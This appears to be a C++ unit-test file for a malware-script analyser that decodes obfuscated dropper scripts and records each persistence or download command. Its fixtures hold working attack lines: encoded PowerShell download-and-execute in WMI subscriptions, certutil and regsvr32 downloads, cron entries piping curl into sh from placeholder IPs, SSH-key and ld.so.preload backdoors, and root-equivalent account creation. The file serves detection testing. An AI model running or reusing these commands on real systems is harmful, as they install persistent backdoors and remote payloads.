// Dropper scripts: the obfuscation layers undone and named, every host-changing command as a structured record.
#include "formats/script/script.h"

#include <set>

#include <gtest/gtest.h>

#include "support/bytes.h"

namespace msw::formats::script {
namespace {

std::set<std::string> kinds(const Analysis& a) {
  std::set<std::string> out;
  for (const auto& c : a.commands) out.insert(c.kind);
  return out;
}

const Command* first(const Analysis& a, std::string_view kind) {
  for (const auto& c : a.commands)
    if (c.kind == kind) return &c;
  return nullptr;
}

// A MyKings-style c3.bat (benign stand-ins): the first schtasks hidden behind set variables and a substring, carets
// in a keyword, a WMI subscription whose consumer runs encoded PowerShell, a Run key to a defanged scriptlet URL,
// hosts-file writes, a certutil download, rivals killed, the payload hidden, an account added.
constexpr std::string_view kC3Bat =
    "@echo off\r\n"
    "rem c3.bat\r\n"
    "set a=xxschtasksxx\r\n"
    "set t=%a:~2,8%\r\n"
    "%t% /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&echo test>>s&echo 1433>>s&ftp -s:s\" /ru "
    "\"system\" /sc onstart /F\r\n"
    "sch^tasks /create /tn \"Mysa2\" /tr \"rundll32.exe c:\\windows\\debug\\item.dat,ServiceMain aaaa\" /ru system /sc "
    "minute /mo 30 /F\r\n"
    "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
    "EventNameSpace=\"root\\cimv2\", "
    "QueryLanguage=\"WQL\", Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 10800 WHERE TargetInstance ISA "
    "'Win32_PerfFormattedData_PerfOS_System'\"\r\n"
    // powershell.exe -nop -enc <UTF-16LE of IEX (New-Object
    // Net.WebClient).DownloadString('http://wmi.mykings.top:8888/test')>
    "wmic /namespace:\\\\root\\subscription PATH CommandLineEventConsumer CREATE Name=\"fuckyoumm4\", "
    "CommandLineTemplate=\"cmd /c powershell.exe -nop -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQ"
    "BuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdwBtAGkALgBtAHkAawBpAG4AZwBzAC4AdABvAHAAOgA4ADgAOAA4AC8AdABlAHMAdAAnACkA\"\r\n"
    "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v \"start\" /d \"regsvr32 /u /s "
    "/i:hxxp://js.mykings[.]top:280/v.sct scrobj.dll\" /f\r\n"
    "echo 127.0.0.1 www.360.cn >> %windir%\\system32\\drivers\\etc\\hosts\r\n"
    "certutil -urlcache -split -f hxxp://down.mysking[.]info:8888/ok.exe c:\\windows\\temp\\ok.exe && "
    "attrib +s +h c:\\windows\\temp\\ok.exe\r\n"
    "taskkill /f /im xmrig.exe /im minerd.exe\r\n"
    "net user admin$ P@ss123 /add & net localgroup administrators admin$ /add\r\n"
    "netsh advfirewall firewall add rule name=\"deny445\" dir=in protocol=tcp localport=445 action=block\r\n";

TEST(Script, MyKingsBatchYieldsEveryCommand) {
  const Analysis a = analyse(kC3Bat);
  EXPECT_EQ(a.language, "batch");
  std::set<std::string> layer_names;
  for (const auto& l : a.layers) layer_names.insert(l.name);
  EXPECT_TRUE(layer_names.count("batch variables"));
  EXPECT_TRUE(layer_names.count("batch carets"));
  EXPECT_TRUE(layer_names.count("powershell -EncodedCommand"));
  for (auto k : {"scheduled_task", "wmi_subscription", "registry_run", "hosts_write", "download", "hide_file",
                 "kill_processes", "account_add", "admin_group_add", "firewall_rule"})
    EXPECT_TRUE(kinds(a).count(k)) << k;

  std::vector<std::string> tasks;
  for (const auto& c : a.commands)
    if (c.kind == "scheduled_task") tasks.push_back(c.fields.at("name"));
  EXPECT_EQ(tasks, (std::vector<std::string>{"Mysa", "Mysa2"}));  // the first one only after expansion
  const auto* mysa = first(a, "scheduled_task");
  EXPECT_EQ(mysa->fields.at("schedule"), "onstart");
  EXPECT_EQ(mysa->attack, "T1053.005");
  EXPECT_EQ(mysa->line, 5u);

  std::set<std::string> wmi;
  for (const auto& c : a.commands)
    if (c.kind == "wmi_subscription") wmi.insert(c.fields.at("class") + " " + c.fields.at("name"));
  EXPECT_EQ(wmi, (std::set<std::string>{"__EventFilter fuckyoumm3", "CommandLineEventConsumer fuckyoumm4"}));

  const auto* run = first(a, "registry_run");
  EXPECT_EQ(run->fields.at("value"), "start");
  EXPECT_EQ(first(a, "hosts_write")->fields.at("entry"), "127.0.0.1 www.360.cn");
  EXPECT_EQ(first(a, "kill_processes")->fields.at("images"), "xmrig.exe,minerd.exe");
  EXPECT_EQ(first(a, "hide_file")->fields.at("path"), "c:\\windows\\temp\\ok.exe");
  EXPECT_EQ(first(a, "account_add")->fields.at("name"), "admin$");

  std::set<std::string> downloads;
  for (const auto& c : a.commands)
    if (c.kind == "download")
      downloads.insert(c.fields.at("via") + " " + c.fields.at("url") +
                       (c.fields.count("destination") ? " > " + c.fields.at("destination") : ""));
  EXPECT_TRUE(downloads.count("certutil http://down.mysking.info:8888/ok.exe > c:\\windows\\temp\\ok.exe"))
      << *downloads.begin();
  EXPECT_TRUE(downloads.count("regsvr32 scriptlet http://js.mykings.top:280/v.sct"));
  EXPECT_TRUE(downloads.count("powershell http://wmi.mykings.top:8888/test > "));  // from the decoded payload
  // Every URL, refanged.
  for (auto u :
       {"http://js.mykings.top:280/v.sct", "http://down.mysking.info:8888/ok.exe", "http://wmi.mykings.top:8888/test"})
    EXPECT_NE(std::find(a.urls.begin(), a.urls.end(), u), a.urls.end()) << u;
}

// A shell dropper installs itself the ways Linux mining worms do; each write is a record with the file and the text.
TEST(Script, ShellDropperWritesAreRecords) {
  const std::string sh =
      "#!/bin/bash\n"
      "echo '*/5 * * * * curl -fsSL http://203.0.113.9/pm.sh|sh' >> /etc/crontab  # the system crontab\n"
      "(crontab -l 2>/dev/null; echo \"*/10 * * * * wget -q -O- http://203.0.113.9/a|sh\") | crontab -\n"
      "echo 'ssh-rsa AAAAB3NzaC1yc2E worm@x' >>~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys\n"
      "printf '%s\\n' /usr/local/lib/libhide.so > /etc/ld.so.preload\n"
      "echo \"127.0.0.1 minexmr.com\" | tee -a /etc/hosts >/dev/null\n"
      "cat > /etc/cron.d/0systemd <<'EOF'\n"
      "# hourly\n"
      "0 * * * * root /tmp/.x/kworker\n"
      "EOF\n"
      "cat >/etc/systemd/system/kworker.service <<EOF\n"
      "[Service]\n"
      "ExecStart=/tmp/.x/kworker\n"
      "EOF\n"
      "systemctl daemon-reload && systemctl enable --now kworker.service\n"
      "useradd -o -u 0 -g 0 -M -s /bin/bash hilde\n"
      "echo 'not a command: >> /etc/crontab'\n";
  const Analysis a = analyse(sh);
  EXPECT_EQ(a.language, "shell");
  std::set<std::string> got;
  for (const auto& c : a.commands) {
    std::string r = c.kind + " L" + std::to_string(c.line);
    for (const char* k : {"file", "entry", "path", "unit", "name"})
      if (auto it = c.fields.find(k); it != c.fields.end()) r += std::string(" ") + k + "=" + it->second;
    if (c.kind != "download") got.insert(r);
  }
  EXPECT_EQ(got, (std::set<std::string>{
                     "cron_write L2 file=/etc/crontab entry=*/5 * * * * curl -fsSL http://203.0.113.9/pm.sh|sh",
                     "cron_write L3 file= entry=*/10 * * * * wget -q -O- http://203.0.113.9/a|sh",
                     "ssh_key_write L4 file=/root/.ssh/authorized_keys entry=ssh-rsa AAAAB3NzaC1yc2E worm@x",
                     "preload_write L5 file=/etc/ld.so.preload entry=/usr/local/lib/libhide.so",
                     "hosts_write L6 file=/etc/hosts entry=127.0.0.1 minexmr.com",
                     "file_write L7 path=/etc/cron.d/0systemd",
                     "file_write L11 path=/etc/systemd/system/kworker.service",
                     "systemd_enable L15 unit=kworker.service",
                     "account_add L16 name=hilde",
                 }));
}

TEST(Script, PowerShellAndVbscriptLayers) {
  // [char] codes joined with +, and a FromBase64String payload (UTF-8 here).
  const Analysis ps = analyse(
      "$u = [char]104+[char]116+[char]116+[char]112+'://198.51.100.7/x.ps1'\n"
      "$c = "
      "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
      "Y2VydHV0aWwgLXVybGNhY2hlIC1mIGh0dHA6Ly8xOTguNTEuMTAwLjcvYS5leGUgYzpcYS5leGU='))\n");
  EXPECT_EQ(ps.language, "powershell");
  std::set<std::string> names;
  for (const auto& l : ps.layers) names.insert(l.name);
  EXPECT_TRUE(names.count("powershell [char]"));
  EXPECT_TRUE(names.count("base64 (FromBase64String)"));
  EXPECT_NE(std::find(ps.urls.begin(), ps.urls.end(), "http://198.51.100.7/x.ps1"), ps.urls.end());
  const auto* dl = first(ps, "download");
  ASSERT_NE(dl, nullptr);
  EXPECT_EQ(dl->fields.at("url"), "http://198.51.100.7/a.exe");
  EXPECT_EQ(dl->fields.at("destination"), "c:\\a.exe");

  const Analysis vbs = analyse(
      "Set o = CreateObject(\"WScript.Shell\")\n"
      "o.Run Chr(115) & Chr(99) & \" create Updater binPath= C:\\ProgramData\\u.exe start= auto\", 0\n");
  EXPECT_EQ(vbs.language, "vbscript");
  EXPECT_EQ(vbs.layers.front().name, "vbscript Chr()");
  EXPECT_NE(vbs.decoded.find("\"sc create Updater"), std::string::npos) << vbs.decoded;
}

TEST(Script, Utf16AndLimits) {
  const std::string wide =
      "\xFF\xFE" + test::bytes::utf16("schtasks /create /tn \"Updater\" /tr \"c:\\u.exe\" /sc onlogon\r\n");
  const Analysis a = analyse(wide);
  EXPECT_EQ(a.layers.front().name, "utf-16le text");
  ASSERT_NE(first(a, "scheduled_task"), nullptr);
  EXPECT_EQ(first(a, "scheduled_task")->fields.at("name"), "Updater");
  // A variable that doubles itself cannot blow up: lines past the expansion limit stay as written.
  std::string bomb = "@echo off\nset a=xxxxxxxxxxxxxxxx\n";
  for (int i = 0; i < 40; ++i) bomb += "set a=%a%%a%\n";
  const Analysis b = analyse(bomb);
  EXPECT_LE(b.decoded.size(), size_t{1} << 20);
  EXPECT_TRUE(looks_like_script(kC3Bat));
  EXPECT_FALSE(looks_like_script(std::string("MZ\x90\0\3\0\0\0", 8)));
}

}  // namespace
}  // namespace msw::formats::script
